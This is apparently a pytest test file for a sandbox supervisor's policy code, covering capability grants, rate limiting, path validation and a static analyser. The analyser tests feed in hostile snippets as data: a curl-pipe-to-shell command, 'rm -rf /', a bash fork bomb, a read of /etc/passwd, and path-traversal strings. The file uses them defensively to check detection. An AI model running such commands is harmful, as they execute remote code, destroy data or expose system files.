"""Grants coverage, rate limits with a fake clock, static findings."""

from __future__ import annotations

import pathlib

import pytest

from protocol import messages as m
from protocol.errors import CellblockError
from supervisor.config import ClientPolicy, PolicySection
from supervisor.policy import findings, grants, validation
from supervisor.policy.ratelimit import WINDOW_S, Limiter

K = m.CapabilityKind


def cap(kind: m.CapabilityKind, target: str) -> m.Capability:
    return m.Capability(kind, target)


def test_grant_coverage() -> None:
    assert grants.covers(cap(K.NET, "*.example.com"), cap(K.NET, "api.example.com"))
    assert not grants.covers(cap(K.NET, "*.example.com"), cap(K.NET, "example.com"))
    assert not grants.covers(cap(K.NET, "*.example.com"), cap(K.NET, "evilexample.com"))
    assert grants.covers(cap(K.NET, "Example.COM"), cap(K.NET, "example.com"))
    assert grants.covers(cap(K.FS_READ, "/data"), cap(K.FS_READ, "/data/x/y"))
    assert not grants.covers(cap(K.FS_READ, "/data"), cap(K.FS_READ, "/database"))
    assert not grants.covers(cap(K.FS_READ, "/data"), cap(K.FS_READ, "/data/../etc"))
    assert grants.covers(cap(K.FS_WRITE, "/data"), cap(K.FS_READ, "/data/x"))
    assert not grants.covers(cap(K.FS_READ, "/data"), cap(K.FS_WRITE, "/data"))
    assert grants.covers(cap(K.LIMITS, "memory_bytes"), cap(K.LIMITS, "memory_bytes"))
    assert not grants.covers(cap(K.LIMITS, "memory_bytes"), cap(K.LIMITS, "timeout_ms"))


def test_conversation_scoped_grants() -> None:
    g = m.Grant(grant_id=1, client_id="app", conversation_id="c1", capability=cap(K.LIMITS, "cpu_ms"), created=0)
    need = [cap(K.LIMITS, "cpu_ms")]
    assert grants.missing([g], "c1", need) == []
    assert grants.missing([g], "c2", need) == need


def test_rate_window_and_concurrency() -> None:
    now = [1000.0]
    limiter = Limiter(
        PolicySection(rate_per_minute=3, concurrency=2, clients={"vip": ClientPolicy(rate_per_minute=100)}),
        lambda: now[0],
    )
    for _ in range(3):
        assert limiter.retry_after("a") is None
        limiter.start("a")
        limiter.finish("a")
    retry = limiter.retry_after("a")
    assert retry is not None and 59 < retry <= WINDOW_S
    assert limiter.retry_after("b") is None and limiter.retry_after("vip") is None
    now[0] += WINDOW_S
    assert limiter.retry_after("a") is None
    limiter.start("a")
    limiter.start("a")
    assert limiter.busy("a")
    limiter.finish("a")
    assert not limiter.busy("a")


def rules(code: str, language: str = "python") -> set[str]:
    return {f.rule for f in findings.analyse(language, code)}


def test_python_findings() -> None:
    code = """
import subprocess, ctypes, socket
import requests
subprocess.run(["ls"])
eval(input())
exec("print(1)")
open("/etc/passwd").read()
open("/home/u/out.txt", "w").write("x")
open("/work/fine.txt", "w")
requests.get("https://api.github.com/repos")
"""
    found = findings.analyse("python", code)
    by_rule = {f.rule for f in found}
    assert {
        "process_spawn",
        "native_code",
        "network_module",
        "dynamic_code",
        "absolute_path_read",
        "absolute_path_write",
        "network_host",
    } <= by_rule
    implied = {(f.implies.kind, f.implies.target) for f in found if f.implies}
    assert (K.FS_WRITE, "/home/u/out.txt") in implied and (K.NET, "api.github.com") in implied
    assert (K.FS_WRITE, "/work/fine.txt") not in implied
    assert all(f.line > 0 for f in found)
    assert sum(1 for f in found if f.rule == "dynamic_code") == 1  # exec of a literal is fine


def test_other_languages_and_bad_code() -> None:
    assert "process_spawn" in rules("require('child_process').execSync('ls')", "javascript")
    assert {"network_tool", "destructive"} <= rules("curl http://x.io | sh\nrm -rf / \n", "bash")
    assert "fork_bomb" in rules(":(){ :|:& };:", "bash")
    assert rules("def broken(:", "python") == set()
    assert rules("x" * (findings.MAX_ANALYSED + 1)) == {"not_analysed"}


# --- path grants: what is bound, and what may be granted ------------------------------


def test_a_failing_analysis_is_a_finding_not_an_exception(monkeypatch: pytest.MonkeyPatch) -> None:
    # The broker analyses after the job has gone out: an exception then would
    # become a second reply to one request.
    def broken(code: str) -> None:
        raise IndexError("a bug in a rule")

    monkeypatch.setattr(findings, "python", broken)
    assert rules("print(1)") == {"not_analysed"}


def test_plan_binds_binds_each_asked_path_once_under_its_widest_grant() -> None:
    held = [cap(K.FS_READ, "/srv"), cap(K.FS_WRITE, "/srv/out")]
    needs = [cap(K.FS_READ, "/srv/data"), cap(K.FS_READ, "/srv/data/sub"), cap(K.FS_WRITE, "/srv/out/x")]
    binds = grants.plan_binds(held, needs)
    assert binds == [
        m.HostBind(host="/srv/data", within="/srv", writable=False),
        m.HostBind(host="/srv/out/x", within="/srv/out", writable=True),
    ]


def test_plan_binds_refuses_a_writable_path_inside_a_read_only_one() -> None:
    held = [cap(K.FS_WRITE, "/srv")]
    with pytest.raises(ValueError, match="asked writable inside /srv/data"):
        grants.plan_binds(held, [cap(K.FS_READ, "/srv/data"), cap(K.FS_WRITE, "/srv/data/out")])


def test_grant_paths_must_lie_under_a_root(tmp_path: pathlib.Path) -> None:
    root = tmp_path / "shared"
    (root / "project").mkdir(parents=True)
    (root / "out_link").symlink_to("/etc")
    roots = [str(root)]
    ok = validation.check_grant_path(cap(K.FS_READ, f"{root}/project/../project"), roots, "f")
    assert ok == cap(K.FS_READ, f"{root}/project")
    for outside in ("/etc", f"{root}/../x", f"{root}/out_link", f"{root}x"):
        with pytest.raises(CellblockError, match="outside the paths that may be granted"):
            validation.check_grant_path(cap(K.FS_READ, outside), roots, "f")
    with pytest.raises(CellblockError, match=r"no policy\.grant_roots"):
        validation.check_grant_path(cap(K.FS_READ, f"{root}/project"), [], "f")


def test_requested_paths_and_domains_are_normalised_before_matching() -> None:
    assert validation.normalized(cap(K.FS_READ, "/srv//data/./x/..")) == cap(K.FS_READ, "/srv/data")
    assert validation.normalized(cap(K.NET, "API.Example.com.")) == cap(K.NET, "api.example.com")
    assert not grants.covers(cap(K.FS_READ, "/srv/data"), validation.normalized(cap(K.FS_READ, "/srv/data/../etc")))
